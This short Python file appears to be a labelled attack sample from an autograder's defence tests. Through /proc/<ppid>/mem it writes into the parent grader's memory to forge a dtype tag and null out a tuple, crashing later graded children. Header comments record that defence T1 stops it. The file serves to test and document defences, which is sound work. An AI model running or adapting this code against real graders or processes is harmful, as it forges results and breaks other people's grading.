# tries: to change the memory of the process that it was forked from, and so of all later children
# fails: that process is another user's or in another namespace, and its memory cannot be opened
# goal: forge
# stopped from: T1
# undefended: harm: to everyone who is graded after it, as a fork has its parent's addresses
import os
import sys

wire = sys.modules.get("autograder.wire") or sys.modules.get("wire")


def attack(*arguments, **keywords):
    tags = wire.DTYPES[-1]  # a str that the parent holds at the same address
    place = id(tags) + sys.getsizeof(tags) - len(tags) - 1
    try:
        with open(f"/proc/{os.getppid()}/mem", "r+b", 0) as memory:
            memory.seek(place)
            if memory.read(len(tags)) == tags.encode():
                patch(memory, place)
    except OSError as error:
        raise RuntimeError(str(error)) from None
    raise RuntimeError("nothing of mine at that address")


def patch(memory, place):
    memory.seek(place)
    memory.write(b"<x99")
    text = vars(wire)["DTYPES"]
    memory.seek(id(text) + tuple.__basicsize__)
    memory.write(bytes(8 * len(text)))  # where NULL is no object: the next child crashes
    raise RuntimeError("patched")
